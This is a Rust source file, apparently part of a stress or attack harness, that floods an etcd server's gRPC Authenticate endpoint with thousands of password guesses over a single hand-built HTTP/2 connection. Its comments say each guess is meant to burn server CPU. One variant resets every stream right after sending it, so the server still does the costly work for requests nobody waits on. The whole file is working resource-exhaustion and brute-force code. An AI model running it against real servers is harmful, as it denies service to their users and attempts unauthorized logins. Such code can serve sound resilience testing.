//! Guessing passwords: each costs the server tens of milliseconds of a processor, on purpose.

use super::arms::Arms;
use super::honest::field;
use super::http2::{DATA, END_HEADERS, END_STREAM, HEADERS, Http2, RST_STREAM, frame, request};
use std::io;

/// Guesses on one connection.
const GUESSES: u32 = 4000;

/// Passwords of one user after another.
pub(super) async fn guesses(arms: &Arms) -> io::Result<()> {
    guess(arms, |_| Vec::new()).await
}

/// The same, and nobody waits for the answer: the work may be forgotten, and is done all the same.
pub(super) async fn abandoned(arms: &Arms) -> io::Result<()> {
    guess(arms, |stream| {
        frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
    })
    .await
}

/// Guesses one by one; `then` is said about the guess before.
async fn guess(arms: &Arms, then: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let path = "/etcdserverpb.Auth/Authenticate";
    let head = request(&arms.authority(), "POST", path, "application/grpc");
    for stream in (1..2 * GUESSES).step_by(2) {
        arms.pace(1).await;
        let name = format!("user{}", stream % 97);
        let guess = [field(1, name), field(2, stream.to_string())].concat();
        let prefix = [0, 0, 0, 0, guess.len() as u8];
        let mut out = frame(HEADERS, END_HEADERS, stream, &head);
        out.extend(frame(
            DATA,
            END_STREAM,
            stream,
            &[&prefix[..], &guess].concat(),
        ));
        if stream > 1 {
            out.extend(then(stream - 2));
        }
        line.send(&out).await?;
    }
    Ok(())
}
